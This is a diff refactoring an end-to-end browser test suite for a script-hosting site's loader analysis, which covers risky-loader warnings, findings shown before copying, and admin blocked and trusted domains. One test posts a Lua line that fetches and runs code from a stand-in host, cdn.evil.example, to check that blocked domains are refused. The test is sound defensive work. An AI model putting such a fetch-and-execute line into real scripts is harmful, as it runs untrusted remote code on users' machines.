@@ -1,6 +1,7 @@
-import type { Browser } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { DESKTOP, expectNoSeriousViolations, launchBrowser, loginAdmin, type Site, staffApi, startSite, waitForHydration } from './harness.ts';
+import { describe, expect, it } from 'vitest';
+import { expectNoSeriousViolations } from './harness.ts';
+import { createScript, toast } from './staff.ts';
+import { e2eSuite } from './suite.ts';
 
 /**
  * A visitor reads what a loader does before copying it (issue 15, docs/decisions/0018-loader-analysis.md#what-this-loader-does-on-the-script-page):
@@ -15,34 +16,17 @@ const WEBHOOK_LOADER = [
 ].join('\n');
 
 describe('what a loader does, for visitors and the admin, in a real browser', () => {
-  let site: Site;
-  let browser: Browser;
-  let adminToken: string;
   let scriptId: number;
-
-  beforeAll(async () => {
-    site = await startSite();
-    adminToken = await loginAdmin(site);
-    const json = { 'content-type': 'application/json' };
-    await staffApi(site, adminToken, '/api/ac', { method: 'POST', headers: json, body: JSON.stringify({ playsname: 'Harmless Plain Hub', description: 'Prints hello', loadstring: 'print("hello")' }) });
-    const risky = await staffApi<{ id: number }>(site, adminToken, '/api/ac', {
-      method: 'POST',
-      headers: json,
-      body: JSON.stringify({ playsname: 'Webhook Stats Hub', description: 'Posts stats to a webhook', loadstring: WEBHOOK_LOADER }),
-    });
-    scriptId = risky.id;
-    browser = await launchBrowser();
-  });
-  afterAll(async () => {
-    await browser?.close();
-    await site?.stop();
+  const suite = e2eSuite({
+    admin: true,
+    arrange: async ({ adminToken }) => {
+      await createScript(suite, adminToken, { playsname: 'Harmless Plain Hub', description: 'Prints hello', loadstring: 'print("hello")' });
+      ({ id: scriptId } = await createScript(suite, adminToken, { playsname: 'Webhook Stats Hub', description: 'Posts stats to a webhook', loadstring: WEBHOOK_LOADER }));
+    },
   });
 
   it('marks the card, then shows the warning and the findings above the Copy button before the visitor copies', async () => {
-    const context = await browser.newContext({ viewport: DESKTOP, permissions: ['clipboard-read', 'clipboard-write'] });
-    const page = await context.newPage();
-    await page.goto(`${site.url}/scripts`);
-    await waitForHydration(page);
+    const page = await suite.visit('/scripts', { permissions: ['clipboard-read', 'clipboard-write'] });
     const card = (name: string) => page.getByRole('article').filter({ has: page.getByRole('heading', { name }) });
     await card('Webhook Stats Hub').getByRole('list', { name: 'Script facts' }).getByText('Risky loader').waitFor();
     expect(await card('Harmless Plain Hub').getByText('Risky loader').count()).toBe(0);
@@ -72,26 +56,19 @@ describe('what a loader does, for visitors and the admin, in a real browser', ()
     await copy.click();
     await page.getByRole('button', { name: 'Copied' }).waitFor();
     expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(WEBHOOK_LOADER);
-    await context.close();
   });
 
   it('shows a loader without findings as such, with no warning', async () => {
-    const page = await browser.newPage({ viewport: DESKTOP });
-    await page.goto(`${site.url}/scripts`);
-    await waitForHydration(page);
+    const page = await suite.visit('/scripts');
     await page.getByRole('article').filter({ has: page.getByRole('heading', { name: 'Harmless Plain Hub' }) }).getByRole('link', { name: 'Get Script' }).click();
     await page.getByRole('heading', { level: 1, name: 'Harmless Plain Hub' }).waitFor();
     await page.getByRole('tab', { name: 'Script', exact: true }).click();
     await page.getByRole('region', { name: 'What this loader does' }).getByText('Nothing risky found in this loader.').waitFor();
     expect(await page.getByRole('alert').filter({ hasText: 'Warning: this loader' }).count()).toBe(0);
-    await page.close();
   });
 
   it('lets the admin add a blocked and a trusted domain and delete one after confirming', async () => {
-    const page = await browser.newPage({ viewport: DESKTOP });
-    await page.addInitScript((token) => window.localStorage.setItem('adminToken', token), adminToken);
-    await page.goto(`${site.url}/admin/dashboard`);
-    await waitForHydration(page);
+    const page = await suite.visit('/admin/dashboard', { tokens: { admin: suite.adminToken } });
     await page.getByRole('link', { name: 'Domains' }).click();
     await page.getByRole('heading', { level: 1, name: 'Domains' }).waitFor();
     await page.getByText('No domains listed').waitFor();
@@ -112,13 +89,13 @@ describe('what a loader does, for visitors and the admin, in a real browser', ()
     await expect.poll(() => list.getByRole('listitem').allTextContents()).toEqual(['evil.exampleBlocked', 'githubusercontent.comTrusted']);
     // Checked once the add has settled (a pending button is dimmed on purpose).
     await form.locator('button[type="submit"]:not([aria-busy])').waitFor();
-    await page.locator('[data-sonner-toast]', { hasText: 'Domain added successfully' }).first().waitFor();
+    await toast(page, 'Domain added successfully').first().waitFor();
     await expectNoSeriousViolations(page, 'admin domains section', { pointerAway: true });
 
     // The blocked domain now refuses a loader that fetches from it.
-    const refused = await fetch(`${site.url}/api/ac`, {
+    const refused = await fetch(`${suite.url}/api/ac`, {
       method: 'POST',
-      headers: { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' },
+      headers: { authorization: `Bearer ${suite.adminToken}`, 'content-type': 'application/json' },
       body: JSON.stringify({ playsname: 'Blocked Hub', description: 'd', loadstring: 'loadstring(game:HttpGet("https://cdn.evil.example/x.lua"))()' }),
     });
     expect(refused.status).toBe(400);
@@ -129,10 +106,9 @@ describe('what a loader does, for visitors and the admin, in a real browser', ()
     await dialog.getByRole('heading', { name: 'Are you sure you want to delete this domain?' }).waitFor();
     await dialog.getByRole('button', { name: 'Delete' }).click();
     await expect.poll(() => list.getByRole('listitem').allTextContents()).toEqual(['githubusercontent.comTrusted']);
-    await page.close();
 
     // Trusted, the hub's code is a note on the script's page.
-    const script = (await (await fetch(`${site.url}/api/scripts/${scriptId}`)).json()) as { analysis: { findings: { code: string }[] } };
+    const script = (await (await fetch(`${suite.url}/api/scripts/${scriptId}`)).json()) as { analysis: { findings: { code: string }[] } };
     expect(script.analysis.findings.map((item) => item.code)).toEqual(['webhook', 'trusted-remote-code']);
   });
 });
